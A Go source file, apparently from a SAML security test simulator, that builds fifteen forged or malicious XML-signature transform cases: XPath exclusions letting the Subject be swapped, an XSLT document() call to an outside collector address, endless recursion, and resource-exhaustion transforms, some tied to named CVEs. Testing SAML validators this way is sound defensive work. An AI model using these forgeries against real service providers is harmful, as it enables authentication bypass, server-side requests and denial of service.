package forge

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"

	"github.com/beevik/etree"

	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Namespaces of languages that a transform may speak.
const (
	nsXSLT    = "http://www.w3.org/1999/XSL/Transform"
	nsFilter2 = dsig.XPathFilter2
)

// Attacks on a product that runs whatever transforms a signature states. SAML allows
// two of them, and they take nothing away but the signature itself.
func init() {
	register("trf",
		Attack{
			Row: "TRF-01", Name: "transform-xpath", Modes: Alone, Summary: "is signed but for its subject, which an XPath transform takes out",
			Sources: []string{"Gajek et al. 2009"},
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.View = withoutSubject
				return insert(r, dsig.Transform{Algorithm: dsig.XPath, Content: []*etree.Element{worded("ds:XPath", nsSignature,
					"not(ancestor-or-self::*[local-name()='Subject'])")}})
			}),
			document: onVictim,
		},
		Attack{
			Row: "TRF-02", Name: "transform-xpath-filter", Modes: Alone, Summary: "is signed but for its subject, which an XPath filter subtracts",
			Sources: []string{"Gajek et al. 2009"},
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.View = withoutSubject
				filter := worded("dsig2:XPath", nsFilter2, "//*[local-name()='Subject']")
				filter.CreateAttr("Filter", "subtract")
				return insert(r, dsig.Transform{Algorithm: dsig.XPathFilter2, Content: []*etree.Element{filter}})
			}),
			document: onVictim,
		},
		Attack{
			Row: "TRF-03", Name: "transform-xslt", Modes: Alone, Summary: "is signed by way of a style sheet that copies",
			Sources: []string{"Hill 2007"},
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				return insert(r, dsig.Transform{Algorithm: dsig.XSLT, Content: []*etree.Element{stylesheet(`<xsl:template match="/"><xsl:copy-of select="."/></xsl:template>`)}})
			}),
		},
		Attack{
			Row: "TRF-04", Name: "transform-xslt-address", Modes: Alone, Lure: true, NoCrash: true,
			Summary: "is signed by way of a style sheet that opens a web address",
			Sources: []string{"Hill 2007", "CVE-2022-34169", "CVE-2022-47966"},
			forged:  true,
			sign: transformed(func(d Donor, r *dsig.Reference) error {
				return insert(r, dsig.Transform{Algorithm: dsig.XSLT, Content: []*etree.Element{stylesheet(
					`<xsl:template match="/"><xsl:copy-of select="document('` + d.Collector + `/stylesheet')"/></xsl:template>`)}})
			}),
		},
		Attack{
			Row: "TRF-05", Name: "transform-xslt-endless", Modes: Alone, NoCrash: true,
			Summary: "is signed by way of a style sheet that never ends",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				return insert(r, dsig.Transform{Algorithm: dsig.XSLT, Content: []*etree.Element{stylesheet(
					`<xsl:template match="/"><xsl:call-template name="again"/></xsl:template><xsl:template name="again"><xsl:call-template name="again"/></xsl:template>`)}})
			}),
		},
		Attack{
			Row: "TRF-06", Name: "transform-base64", Modes: Alone, Summary: "is signed over what its text is in base64",
			forged: true,
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.Transforms = []dsig.Transform{{Algorithm: dsig.Base64}}
				r.Octets = unbase64(r.Over)
				return nil
			}),
		},
		Attack{
			Row: "TRF-07", Name: "transform-to-nothing", Modes: Alone, Summary: "is signed over nothing, which is all that an XPath transform leaves",
			forged: true,
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.Octets = []byte{}
				return insert(r, dsig.Transform{Algorithm: dsig.XPath, Content: []*etree.Element{worded("ds:XPath", nsSignature, "false()")}})
			}),
		},
		Attack{
			Row: "TRF-08", Name: "transforms-many", Modes: Alone, NoCrash: true, Summary: "is canonicalized three hundred times over",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.Transforms = append(r.Transforms[:1:1], slices.Repeat(r.Transforms[1:], 300)...)
				return nil
			}),
		},
		Attack{
			Row: "TRF-09", Name: "transform-enveloped-twice", Rule: "transforms-in-order", Modes: Alone, Expect: Warn,
			Summary: "takes its signature out twice",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				return insert(r, r.Transforms[0])
			}),
		},
		Attack{
			Row: "TRF-09", Name: "transform-enveloped-last", Rule: "transforms-in-order", Modes: Alone, Expect: Warn,
			Summary: "takes its signature out after canonicalization, when there is no element any more",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				slices.Reverse(r.Transforms)
				return nil
			}),
		},
		Attack{
			Row: "TRF-10", Name: "transforms-none", Modes: OnAssertion, Expect: Warn,
			Only:    "the place of the response's signature is taken",
			Summary: "has the signature of its assertion outside of it, and no transforms",
			sign: func(d Donor, draft *idp.Draft) error {
				s := enveloped(d, draft, draft.Assertion)
				s.References[0].Transforms = nil
				_, err := s.Place(draft.Response, dsig.AfterIssuer(draft.Response))
				return err
			},
		},
		Attack{
			Row: "TRF-11", Name: "transform-enveloped-missing", Modes: Alone,
			Summary: "does not take its signature out, and has a digest as if it did",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				r.Transforms = r.Transforms[1:]
				return nil
			}),
		},
		Attack{
			Row: "TRF-12", Name: "transform-unknown", Modes: Alone, Summary: "is signed by way of a transform that nobody knows",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				return insert(r, dsig.Transform{Algorithm: "urn:rollcall:not-a-transform"})
			}),
		},
		Attack{
			Row: "TRF-13", Name: "signature-in-signature", Modes: Alone, Summary: "has a signature within its signature, over the same element",
			Sources: []string{"CVE-2025-54419"},
			sign: onAll(func(d Donor, draft *idp.Draft, el *etree.Element) error {
				inner := enveloped(d, draft, el)
				written, err := inner.Place(el, dsig.AfterIssuer(el))
				if err != nil {
					return err
				}
				el.RemoveChild(written)
				outer, holder := enveloped(d, draft, el), object()
				holder.AddChild(written)
				outer.Objects = append(outer.Objects, holder)
				_, err = outer.Place(el, dsig.AfterIssuer(el))
				return err
			}),
		},
		Attack{
			Row: "TRF-14", Name: "prefixes-many", Rule: "prefix-list", Modes: Alone, NoCrash: true, Summary: "names ten thousand prefixes to be kept",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				var list strings.Builder
				for i := range 10_000 {
					fmt.Fprintf(&list, "p%d ", i)
				}
				r.Transforms[1].Prefixes = list.String() + "xs"
				return nil
			}),
		},
		Attack{
			Row: "TRF-15", Name: "transform-decryption", Modes: Alone, Summary: "is signed by way of the transform that decrypts",
			sign: transformed(func(_ Donor, r *dsig.Reference) error {
				return insert(r, dsig.Transform{Algorithm: dsig.Decryption})
			}),
		},
	)
}

// transformed is signing for what is about the transforms of the one reference.
func transformed(bend func(Donor, *dsig.Reference) error) func(Donor, *idp.Draft) error {
	return signing(func(d Donor, s *dsig.Signature) error { return bend(d, &s.References[0]) })
}

// insert puts a transform between the usual two.
func insert(r *dsig.Reference, t dsig.Transform) error {
	r.Transforms = slices.Insert(slices.Clone(r.Transforms), 1, t)
	return nil
}

// withoutSubject takes the subject out of a copy.
func withoutSubject(el *etree.Element) error {
	subject := el.FindElement(".//Subject")
	if subject == nil {
		return fmt.Errorf("the donor's %s has no Subject", el.Tag)
	}
	subject.Parent().RemoveChild(subject)
	return nil
}

// worded is an element that declares its prefix and holds a text.
func worded(tag, namespace, text string) *etree.Element {
	el := etree.NewElement(tag)
	el.CreateAttr("xmlns:"+el.Space, namespace)
	el.SetText(text)
	return el
}

// stylesheet is a style sheet of these templates.
func stylesheet(templates string) *etree.Element {
	document := etree.NewDocument()
	text := `<xsl:stylesheet version="1.0" xmlns:xsl="` + nsXSLT + `">` + templates + `</xsl:stylesheet>`
	if err := document.ReadFromString(text); err != nil {
		panic("forge: a style sheet of ours is no XML: " + err.Error())
	}
	return document.Root().Copy()
}

// unbase64 is what the texts below an element are in base64, as far as they are.
func unbase64(el *etree.Element) []byte {
	var text strings.Builder
	for _, inner := range append([]*etree.Element{el}, el.FindElements(".//*")...) {
		text.WriteString(inner.Text())
	}
	kept := strings.Map(func(r rune) rune {
		if strings.ContainsRune("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", r) {
			return r
		}
		return -1
	}, text.String())
	octets, err := base64.RawStdEncoding.DecodeString(kept[:len(kept)/4*4])
	if err != nil {
		panic("forge: letters of base64 are none: " + err.Error())
	}
	return octets
}
